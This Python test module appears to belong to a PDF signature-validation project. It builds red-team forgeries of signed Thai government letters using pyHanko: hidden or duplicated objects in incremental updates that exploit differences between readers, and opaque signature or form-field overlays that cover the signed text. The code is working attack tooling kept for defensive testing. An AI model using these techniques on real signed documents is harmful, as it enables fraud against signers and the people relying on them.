"""Ways to change or hide what a signer signed after signing, as the red team found them
(2026-11-30), built with pyHanko on the test PKI's letters:

* `forge_inside_info_update` (F1): an /Info-only update, which pyHanko's difference
  analysis allows after any signature, carrying an unlisted new copy of page 1's
  content stream (the reference "ว 276" reads "ว 267") between its listed object and
  its cross-reference table. With 19-byte entries (LF only) PDFium refuses the table,
  rebuilds it by scanning and shows the forged page; with 20-byte entries it reads the
  table and shows the signed page, but any reader that rebuilds shows the forgery.
* `second_signature_over_text` (F2): a later, valid signature by anyone holding a
  certificate of a trusted CA, whose widget is opaque and painted over the signed text
  with new text.
* `empty_signature_field_over_text` (F5, b4): an empty signature field added after
  signing whose appearance is opaque and covers the text.
* `planted_blank_field` + `fill_planted_field_over_text` (F5, b6b): a blank text field
  planted before signing, given an opaque appearance after.
"""
from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path

from tests.pki import GARUDA, CRL_URL, NOW, Identity, Pki

OVER_TEXT = (50, 590, 550, 810)  # the letter's text block on page 1 (user space)


def attacker(pki: Pki, directory: Path) -> Identity:
    """An unrelated citizen's certificate from the test sub-CA (any holder of a Thai CA
    certificate can sign any file)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization

    from tests.pki import _cert, _key, _name

    ident = Identity(directory / "attacker.pem", directory / "attacker.key")
    if ident.cert_path.exists():
        return ident
    directory.mkdir(parents=True, exist_ok=True)
    sub = x509.load_pem_x509_certificate(pki.sub_ca.cert_path.read_bytes())
    sub_key = serialization.load_pem_private_key(pki.sub_ca.key_path.read_bytes(), None)
    key = _key()
    cert = _cert(_name("นายคนอื่น", "บุคคลธรรมดา", "TEST"), key, sub.subject, sub_key, ca=False,
                 not_before=NOW - dt.timedelta(days=10), not_after=NOW + dt.timedelta(days=300), crl_url=CRL_URL)
    ident.cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    ident.key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                 serialization.NoEncryption()))
    return ident


def _page_content(signed: bytes) -> tuple[bytes, int]:
    from pyhanko.pdf_utils.reader import PdfFileReader

    page = PdfFileReader(io.BytesIO(signed)).root["/Pages"]["/Kids"][0].get_object()
    return page["/Contents"].get_object().data, page.raw_get("/Contents").idnum


def forge_inside_info_update(signed: bytes, *, entry_bytes: int = 19) -> bytes:
    """F1: page 1's reference "ว 276" reads "ว 267" for a reader that rebuilds the
    cross-reference table; the update's table lists only the new /Info."""
    content, number = _page_content(signed)
    first = re.search(rb"<([0-9a-f]+)>", content)  # the first line: ที่ กท 0403/ว 276
    glyphs = first.group(1)
    forged_line = glyphs[:-8] + glyphs[-4:] + glyphs[-8:-4]  # swap the last two glyphs
    forged = content[:first.start(1)] + forged_line + content[first.end(1):]
    assert forged != content
    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    ids = re.findall(rb"/ID \[ (<[0-9a-f]+>) (<[0-9a-f]+>) \]", signed)[-1]
    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
    out = bytearray(signed)
    info_at = len(out) + 1
    out += b"\n%d 0 obj\n<< /Title (Saraban test letter) /Producer (x) >>\nendobj\n" % size
    out += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(forged)) + forged + b"\nendstream\nendobj\n"
    xref_at = len(out)
    end = b"\n" if entry_bytes == 19 else b" \n"
    out += b"xref\n0 1\n%010d %05d f" % (0, 65535) + end + b"%d 1\n%010d %05d n" % (size, info_at, 0) + end
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d /ID [%s %s] >>\nstartxref\n%d\n%%%%EOF\n"
            % (size + 1, size, prev, ids[0], ids[1], xref_at))
    return bytes(out)


def forge_listed_twice(signed: bytes) -> bytes:
    """Session 43's red team: an /Info-only update whose cross-reference table lists page
    1's content twice, a forged copy ("ว 276" reads "ว 267") first, the signed one last.
    pyHanko and PDFium take the last entry, poppler and pypdf the first. The forged copy
    is hidden inside the new /Info's /Subject string, where no scan for unlisted objects
    looks."""
    content, number = _page_content(signed)
    first = re.search(rb"<([0-9a-f]+)>", content)
    glyphs = first.group(1)
    forged = content[:first.start(1)] + glyphs[:-8] + glyphs[-4:] + glyphs[-8:-4] + content[first.end(1):]
    # No escapes or parentheses of its own inside the string it hides in.
    forged = re.sub(rb"/ActualText \((?:\\.|[^\\)])*\)", b"", forged)
    assert forged != content and b"\\" not in forged and forged.count(b"(") == forged.count(b")")
    signed_at = [m.start() for m in re.finditer(rb"(?m)^%d 0 obj" % number, signed)][-1]
    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    ids = re.findall(rb"/ID \[ (<[0-9a-f]+>) (<[0-9a-f]+>) \]", signed)[-1]
    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
    hidden = b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(forged)) + forged + b"\nendstream\nendobj\n"
    out = bytearray(signed)
    info_at = len(out) + 1
    out += b"\n%d 0 obj\n<< /Title (Saraban test letter) /Subject (" % size + hidden + b") >>\nendobj\n"
    hidden_at = info_at + bytes(out[info_at:]).index(b"%d 0 obj" % number)
    xref_at = len(out)
    out += (b"xref\n0 1\n%010d 65535 f \n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n"
            % (0, size, info_at, number, hidden_at, number, signed_at))
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d /ID [%s %s] >>\nstartxref\n%d\n%%%%EOF\n"
            % (size + 1, size, prev, ids[0], ids[1], xref_at))
    return bytes(out)


def _overlay_appearance(w, text: bytes = b"APPROVED 1,000,000 THB"):
    """An opaque white form XObject 500 x 220 pt with a line of text."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    font = generic.DictionaryObject({N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"),
                                     N("/BaseFont"): N("/Helvetica")})
    return w.add_object(generic.StreamObject(
        {N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
         N("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 220))),
         N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/F1"): w.add_object(font)})})},
        stream_data=b"1 1 1 rg 0 0 500 220 re f 0 0 0 rg BT /F1 24 Tf 10 100 Td (" + text + b") Tj ET"))


def second_signature_over_text(signed: bytes, pki: Pki, who: Identity, *, box=(50, 640, 560, 840),
                               opaque: bool = True) -> bytes:
    """F2: a second signature whose visible widget paints new text over the signed text
    (opaque: on a white ground). With opaque=False, the same text on no ground."""
    from pyhanko.pdf_utils.content import RawContent
    from pyhanko.pdf_utils.font.opentype import GlyphAccumulatorFactory
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.layout import BoxConstraints
    from pyhanko.pdf_utils.text import TextBoxStyle
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    width, height = box[2] - box[0], box[3] - box[1]
    style = TextStampStyle(
        stamp_text="ที่ กท 0403/ว 999\nเรื่อง อนุมัติงบประมาณ 1,000,000 บาท\nเรียน ผู้อำนวยการเขตพระนคร",
        text_box_style=TextBoxStyle(font=GlyphAccumulatorFactory(str(GARUDA), font_size=14), font_size=14, leading=22),
        background=(RawContent(b"1 1 1 rg 0 0 %d %d re f" % (width, height), box=BoxConstraints(width, height))
                    if opaque else None),
        background_opacity=1.0, border_width=0)
    pdf_signer = signers.PdfSigner(
        signers.PdfSignatureMetadata(field_name="Signature2"), pki.signer(who), stamp_style=style,
        new_field_spec=fields.SigFieldSpec("Signature2", on_page=0, box=box))
    return pdf_signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(signed))).getvalue()


def _add_widget(w, ft: str, name: str, appearance) -> None:
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    page_ref = w.find_page_for_modification(0)[0]
    field = {N("/FT"): N(ft), N("/T"): generic.pdf_string(name), N("/Type"): N("/Annot"),
             N("/Subtype"): N("/Widget"), N("/F"): generic.NumberObject(4), N("/P"): page_ref,
             N("/Rect"): generic.ArrayObject(map(generic.NumberObject, OVER_TEXT)),
             N("/AP"): generic.DictionaryObject({N("/N"): appearance})}
    if ft == "/Tx":
        field[N("/V")] = generic.pdf_string("")
    attach_field(w, page_ref, generic.DictionaryObject(field))


def attach_field(w, page_ref, field) -> None:
    """`field` (a widget annotation that is its own field) added to page 1's annotations
    and to the form's fields, in the writer's incremental update."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    ref = w.add_object(field)
    page = page_ref.get_object()
    if "/Annots" in page:
        page["/Annots"].append(ref)
    else:
        page[N("/Annots")] = generic.ArrayObject([ref])
    w.update_container(page)
    if "/AcroForm" in w.root:
        form_ref = w.root.raw_get("/AcroForm")
        w.root["/AcroForm"]["/Fields"].append(ref)
        if isinstance(form_ref, generic.IndirectObject):
            w.mark_update(form_ref)
        else:
            w.update_root()
    else:
        w.root[N("/AcroForm")] = generic.DictionaryObject({N("/Fields"): generic.ArrayObject([ref])})
        w.update_root()


def _write(w) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def empty_signature_field_over_text(signed: bytes) -> bytes:
    """F5 (b4): a new, empty signature field whose appearance covers the text."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    _add_widget(w, "/Sig", "Signature9", _overlay_appearance(w))
    return _write(w)


def planted_blank_field(letter: bytes) -> bytes:
    """F5 (b6b), before signing: a text field "note" over the text, blank (empty value,
    empty appearance): the signer sees the letter as it is."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(letter))
    blank = w.add_object(generic.StreamObject(
        {N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
         N("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 220)))}, stream_data=b""))
    _add_widget(w, "/Tx", "note", blank)
    return _write(w)


def fill_planted_field_over_text(signed: bytes) -> bytes:
    """F5 (b6b), after signing: the planted field gets an opaque appearance."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == "note":
            field[generic.pdf_name("/AP")] = generic.DictionaryObject({generic.pdf_name("/N"): _overlay_appearance(w)})
            w.update_container(field)
    return _write(w)


def fill_blank_field(signed: bytes, name: str, value: str) -> bytes:
    """What forms are for: a blank field of the letter filled in after signing, with the
    letter's own kind of appearance (tests/pki.py `_text_field_appearance`)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    from tests.pki import _text_field_appearance

    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            field[generic.pdf_name("/V")] = generic.pdf_string(value)
            field[generic.pdf_name("/AP")] = generic.DictionaryObject(
                {generic.pdf_name("/N"): _text_field_appearance(w, value)})
            w.update_container(field)
    return _write(w)
